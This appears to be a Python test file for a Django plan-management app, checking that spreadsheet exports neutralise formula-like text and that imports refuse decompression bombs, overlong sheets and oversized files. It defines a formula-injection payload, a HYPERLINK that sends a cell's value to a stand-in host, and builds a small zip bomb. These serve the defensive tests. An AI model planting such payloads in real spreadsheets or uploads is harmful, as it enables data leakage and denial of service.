"""Hostile spreadsheets, both ways: text that a spreadsheet would run as a formula is exported
as text (issue #28, finding 2), and workbooks that unpack to far more than they weigh, or hold
far more rows than a plan, are refused before they are parsed (findings 3 and 16)."""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from contracts.models import Axis
from indicators.spreadsheets import csv_row, csv_text, reading
from tests.indicators.test_spreadsheets import XLSX, draft, import_url, upload, workbook

__all__ = ["draft"]

HOSTILE = '=HYPERLINK("http://exemple.invalid/?"&A1,"Voir")'


@pytest.mark.parametrize(
    "text", [HOSTILE, "+33 6 00 00 00 00", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
)
def test_a_csv_cell_starting_like_a_formula_is_neutralised(text):
    assert csv_text(text) == f"'{text}"


def test_a_csv_row_leaves_plain_values_as_they_are():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(["Accès aux soins", 12, None, "=1+1"]))
    assert buffer.getvalue() == "Accès aux soins,12,,'=1+1\r\n"


def test_the_plan_export_writes_a_formula_like_title_as_text(client, world):
    action = world.lead_action
    action.title = HOSTILE
    action.description = "-10 % de fumeurs"
    action.save()
    world.axis.title = "@Prévention"
    world.axis.save()
    client.force_login(world.reader)

    content = client.get(reverse("plan_export", args=[world.contract.pk])).content

    book = load_workbook(io.BytesIO(content))
    sheet = book["Actions"]
    header = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=header.index("Intitulé *") + 1)
    description = sheet.cell(row=2, column=header.index("Description") + 1)
    assert (title.value, title.data_type) == (HOSTILE, "s")
    assert title.quotePrefix
    assert (description.value, description.data_type) == ("-10 % de fumeurs", "s")
    assert book["Axes"]["B2"].data_type == "s"
    # No cell of any sheet is a formula.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)


def test_a_formula_like_title_survives_export_then_import(client, world, draft):
    world.lead_action.title = HOSTILE
    world.lead_action.save()
    client.force_login(world.coordinator)
    exported = client.get(reverse("plan_export", args=[world.contract.pk])).content
    assert client.post(import_url(draft), {"file": upload(exported)}).status_code == 200
    client.post(reverse("plan_import_confirm", args=[draft.pk]))
    assert draft.actions.get(number=world.lead_action.number).title == HOSTILE


def _bomb(member_size: int) -> bytes:
    """A valid workbook with one more part declaring `member_size` bytes of spaces."""
    buffer = io.BytesIO(workbook(Axes=[{"number": 1, "title": "Axe"}]))
    with zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.xml", b" " * member_size)
    return buffer.getvalue()


def test_a_workbook_unpacking_to_too_much_is_refused_before_parsing(
    client, world, draft, monkeypatch
):
    content = _bomb(reading.MAX_UNPACKED_SIZE + 1)
    assert len(content) < 200_000  # a few dozen kilobytes that unpack to 40 MB
    parsed = []
    monkeypatch.setattr(reading, "load_workbook", lambda *a, **k: parsed.append(1))
    client.force_login(world.coordinator)

    response = client.post(import_url(draft), {"file": upload(content)})

    assert response.status_code == 422
    assert "Ce classeur se décompresse en" in response.text
    assert "il n&#x27;a pas été lu" in response.text
    assert parsed == []
    assert not Axis.objects.filter(contract=draft).exists()


def test_a_sheet_longer_than_a_plan_is_refused_with_a_clear_message(
    client, world, draft, monkeypatch
):
    monkeypatch.setattr(reading, "MAX_ROWS", 50)
    book = Workbook()
    sheet = book.active
    sheet.title = "Actions"
    sheet.append(["Numéro", "Axe", "Intitulé"])
    for number in range(1, 60):
        sheet.append([f"1.{number}", 1, f"Fiche {number}"])
    buffer = io.BytesIO()
    book.save(buffer)
    client.force_login(world.coordinator)

    response = client.post(import_url(draft), {"file": upload(buffer.getvalue())})

    assert response.status_code == 422
    assert "La feuille « Actions » compte plus de 50 lignes remplies" in response.text
    assert "Découpez le fichier" in response.text


def test_a_file_over_the_size_limit_is_refused(client, world, draft, monkeypatch):
    monkeypatch.setattr(reading, "MAX_SIZE", 1000)
    client.force_login(world.coordinator)
    response = client.post(
        import_url(draft), {"file": SimpleUploadedFile("plan.xlsx", b"PK" + b"0" * 2000, XLSX)}
    )
    assert response.status_code == 422
    assert "Le fichier dépasse" in response.text


def test_uploads_are_capped_by_the_settings(settings):
    # Bodies other than files, and files kept in memory: larger ones go to a temporary file.
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 5 * 1024 * 1024
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE <= 5 * 1024 * 1024
